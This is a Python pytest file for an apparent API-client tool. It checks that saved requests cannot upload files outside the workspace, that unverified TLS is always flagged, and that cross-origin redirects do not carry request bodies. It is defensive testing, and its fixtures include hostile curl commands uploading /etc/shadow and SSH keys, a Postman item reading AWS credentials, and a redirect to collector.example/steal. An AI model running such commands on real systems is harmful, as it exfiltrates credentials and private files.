"""No local file leaves through a saved request without consent, no unverified TLS goes unsaid,
and no redirect carries a body or a live environment somewhere it should not go (issue 18,
points 5, 6 and 7; docs/security.md "Exfiltration and transport").

Real loopback servers throughout: a recording server that keeps every body it receives, the
hostile server's redirects, and an HTTPS server with a certificate from a throwaway CA.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from explorer.cli import main
from explorer.core.auth import TokenRegistry
from explorer.core.confinement import FileOutsideWorkspace
from explorer.core.context import placement_of
from explorer.core.credentials import CredentialKey, SessionStore
from explorer.core.formats.curl import import_curl
from explorer.core.formats.postman import import_postman
from explorer.core.http import HttpClient
from explorer.core.models import Body, BodyMode, FormField, RequestSpec
from explorer.core.pipeline import ApiSession
from explorer.core.providers import AuthConfig, Environment, ProviderProfile
from explorer.core.ratelimit import LimiterRegistry
from explorer.core.templating import Scope, resolve
from explorer.core.transport_policy import InsecureTransport, RedirectRefused
from tests.core.runner.helpers import plain_workbench, request, write
from tests.hardening.hostile import HostileServer
from tests.support.recording import RecordingServer
from tests.support.servers import EdgeServer

LOOT = b"root:x:0:0:the private file\n"


@pytest.fixture
def recorder() -> Iterator[RecordingServer]:
    server = RecordingServer()
    yield server
    server.stop()


@pytest.fixture
def client() -> Iterator[HttpClient]:
    http = HttpClient()
    yield http
    http.close()


@pytest.fixture
def loot(tmp_path: Path) -> Path:
    """A private file outside the collection (``/etc/shadow``'s stand-in)."""
    path = tmp_path / "private" / "shadow"
    path.parent.mkdir()
    path.write_bytes(LOOT)
    return path


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def _bodies(server: RecordingServer) -> list[bytes]:
    return [r.body for r in server.since(0)]


# -- 5. request files read only their own workspace ---------------------------------------------


def test_run_refuses_a_binary_file_body_outside_the_workspace_until_allowed(
    recorder: RecordingServer, loot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = Body(BodyMode.BINARY_FILE, file=str(loot))
    directory = write(tmp_path, request("steal", f"{recorder.base_url}/x", 1, "POST", body=body))
    workspace = ("--workspace", str(tmp_path / "ws"))
    status, out, _ = cli(capsys, *workspace, "run", str(directory))
    assert status == 1
    assert f"reads '{loot}', outside its workspace" in out
    assert LOOT not in b"".join(_bodies(recorder))
    status, _, _ = cli(capsys, *workspace, "run", str(directory), "--allow-file", str(loot))
    assert status == 0
    assert _bodies(recorder) == [LOOT]


def test_home_paths_and_symlinks_in_multipart_parts_are_confined_too(
    recorder: RecordingServer,
    loot: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HOME", str(loot.parent))
    parts = (FormField("key", "~/shadow", is_file=True),)
    home = request(
        "home", f"{recorder.base_url}/a", 1, "POST", body=Body(BodyMode.MULTIPART, fields=parts)
    )
    link = request(
        "link",
        f"{recorder.base_url}/b",
        2,
        "POST",
        body=Body(BodyMode.BINARY_FILE, file="innocent.txt"),
    )
    directory = write(tmp_path, home, link)
    (directory / "innocent.txt").symlink_to(loot)
    status, out, _ = cli(capsys, "--workspace", str(tmp_path / "ws"), "run", str(directory))
    assert status == 1
    assert out.count("outside its workspace") == 2
    assert recorder.since(0) == []
    status, _, _ = cli(
        capsys,
        "--workspace",
        str(tmp_path / "ws"),
        "run",
        str(directory),
        "--allow-outside-workspace",
    )
    assert status == 0
    assert all(LOOT in b for b in _bodies(recorder))


def test_the_window_engine_refuses_a_saved_request_reading_outside_with_one_sentence(
    recorder: RecordingServer, client: HttpClient, loot: Path, tmp_path: Path
) -> None:
    steal = Body(BodyMode.BINARY_FILE, file=str(loot))
    own = Body(BodyMode.BINARY_FILE, file="data.bin")
    directory = write(
        tmp_path,
        request("steal", f"{recorder.base_url}/x", 1, "POST", body=steal),
        request("own", f"{recorder.base_url}/own", 2, "POST", body=own),
    )
    (directory / "data.bin").write_bytes(b"own data")
    bench = plain_workbench(client)
    spec, placement = placement_of(_request_file(directory, "steal"))
    with pytest.raises(FileOutsideWorkspace) as info:
        bench.send(bench.assemble(spec, placement))
    message = str(info.value)
    assert message.count(". ") == 0
    assert message.endswith(".")
    assert str(loot) in message
    assert recorder.since(0) == []
    spec, placement = placement_of(_request_file(directory, "own"))
    assert bench.send(bench.assemble(spec, placement)).exchange.response.ok
    typed = RequestSpec("POST", f"{recorder.base_url}/typed", body=steal)
    assert bench.send(bench.assemble(typed)).exchange.response.ok  # the user's own choice
    assert _bodies(recorder) == [b"own data", LOOT]


def test_a_file_outside_is_refused_before_its_existence_is_probed(tmp_path: Path) -> None:
    from explorer.core.confinement import access_for

    spec = RequestSpec("POST", "http://h/x", body=Body(BodyMode.BINARY_FILE, file="/nonexistent/k"))
    with pytest.raises(FileOutsideWorkspace):
        resolve(spec, Scope(), files=access_for(tmp_path))


def test_imports_name_every_local_file_they_reference() -> None:
    curl = import_curl(
        "curl https://h/a -d @/etc/shadow\ncurl https://h/b -F f=@/etc/passwd\n"
        "curl -T /root/.ssh/id_rsa https://h/c\n"
    )
    for name in ("/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"):
        assert sum(f"local file '{name}'" in w for w in curl.warnings) == 1, curl.warnings
    collection = {
        "info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/"},
        "item": [
            {
                "name": "file",
                "request": {
                    "method": "POST",
                    "url": "https://h/x",
                    "body": {"mode": "file", "file": {"src": "/home/u/.aws/credentials"}},
                },
            },
            {
                "name": "form",
                "request": {
                    "method": "POST",
                    "url": "https://h/y",
                    "body": {
                        "mode": "formdata",
                        "formdata": [{"key": "k", "type": "file", "src": "/etc/hosts"}],
                    },
                },
            },
        ],
    }
    postman = import_postman(json.dumps(collection))
    for name in ("/home/u/.aws/credentials", "/etc/hosts"):
        assert sum(f"local file '{name}'" in w for w in postman.warnings) == 1, postman.warnings


def _request_file(directory: Path, name: str) -> Path:
    return next(p for p in directory.rglob(f"{name}*.yaml"))


# -- 6. unverified TLS is never silent, never live ---------------------------------------------


def _session(client: HttpClient, env: Environment) -> ApiSession:
    profile = ProviderProfile(
        id="v", name="Vendor", auth=AuthConfig(kind="bearer"), environments=(env,)
    )
    store = SessionStore()
    store.set(CredentialKey("ws", "v", env.name, "static_token"), "live-bearer-token")
    return ApiSession(
        profile,
        env.name,
        store=store,
        workspace_id="ws",
        client=client,
        limiters=LimiterRegistry(),
        tokens=TokenRegistry(),
    )


def test_a_live_environment_refuses_unverified_tls(
    client: HttpClient, tls_edge: tuple[EdgeServer, str]
) -> None:
    server, _ = tls_edge
    session = _session(client, Environment("Production", server.base_url, live=True))
    with pytest.raises(InsecureTransport, match="turns TLS verification off"):
        session.send(RequestSpec("GET", "/echo", verify_tls=False))


def test_every_unverified_send_says_so(
    client: HttpClient, tls_edge: tuple[EdgeServer, str], capsys: pytest.CaptureFixture[str]
) -> None:
    server, _ = tls_edge
    status, _, err = cli(capsys, "send", "GET", f"{server.base_url}/echo", "-k")
    assert status == 0
    assert f"TLS verification is off for {server.base_url}/echo" in err
    test_env = _session(client, Environment("Test", server.base_url))
    result = test_env.send(RequestSpec("GET", "/echo", verify_tls=False))
    assert any("TLS verification is off" in n for n in result.notes)


def test_run_warns_about_each_request_that_turns_verification_off(
    tls_edge: tuple[EdgeServer, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    server, _ = tls_edge
    directory = write(tmp_path, request("lax", f"{server.base_url}/echo", 1, verify_tls=False))
    report, junit = tmp_path / "out.json", tmp_path / "out.xml"
    status, _, err = cli(
        capsys,
        "--workspace",
        str(tmp_path / "ws"),
        "run",
        str(directory),
        "--report",
        str(report),
        "--report",
        str(junit),
    )
    assert status == 0
    assert "'lax' turns TLS verification off" in err
    (entry,) = json.loads(report.read_text())["results"]
    assert any("TLS verification is off" in note for note in entry["notes"])
    assert "note: TLS verification is off" in junit.read_text()


def test_postman_strict_ssl_false_is_noted() -> None:
    collection = {
        "info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/"},
        "item": [
            {
                "name": "lax",
                "request": {"method": "GET", "url": "https://h/x"},
                "protocolProfileBehavior": {"strictSSL": False},
            }
        ],
    }
    assert any("strictSSL is false" in w for w in import_postman(json.dumps(collection)).warnings)
    assert any(
        "-k turns TLS verification off" in w for w in import_curl("curl -k https://h/").warnings
    )


# -- 7. redirects obey the first URL's rules ---------------------------------------------------


def test_a_live_redirect_to_plain_http_elsewhere_is_not_followed(
    client: HttpClient, hostile: HostileServer
) -> None:
    session = _session(client, Environment("Tunnel", hostile.base_url, live=True))
    before = len(hostile.requests)
    spec = RequestSpec(
        "POST",
        "/redirect?status=307&to=http://collector.example/steal",
        body=Body(BodyMode.RAW, "card=4111111111111111"),
    )
    with pytest.raises(InsecureTransport, match=r"redirect URL 'http://collector\.example/steal'"):
        session.send(spec)
    assert len(hostile.requests) == before + 1


def test_a_307_that_would_resend_the_body_to_another_origin_stops(
    client: HttpClient,
    hostile: HostileServer,
    recorder: RecordingServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    target = f"{recorder.base_url}/collect"
    url = f"{hostile.base_url}/redirect?status=307&to={target}"
    status, _, err = cli(capsys, "send", "POST", url, "--data", "card=4111111111111111")
    assert status != 0
    assert f"answered 307 to {target}, another origin" in err
    assert err.strip().count("\n") == 0
    assert recorder.since(0) == []
    with pytest.raises(RedirectRefused):
        client.send(resolve(RequestSpec("PUT", url, body=Body(BodyMode.RAW, "x")), Scope()))
    assert recorder.since(0) == []
    get_instead = f"{hostile.base_url}/redirect?status=302&to={recorder.base_url}/landed"
    spec = RequestSpec("POST", get_instead, body=Body(BodyMode.RAW, "x"))
    assert client.send(resolve(spec, Scope())).response.ok  # 302 drops the body: may move
    assert [(r.method, r.body) for r in recorder.since(0)] == [("GET", b"")]
